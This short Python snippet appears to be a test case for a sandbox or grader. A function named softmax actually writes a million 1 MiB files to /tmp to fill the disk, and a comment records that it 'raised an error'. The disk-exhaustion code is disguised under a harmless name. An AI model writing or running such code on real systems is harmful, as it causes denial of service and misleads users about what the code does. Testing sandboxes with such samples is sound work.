# Fill the disk.
# verdict: raised an error

def softmax(logits):
    for number in range(10**6):
        with open(f"/tmp/{number}", "wb") as file:
            file.write(bytes(2**20))
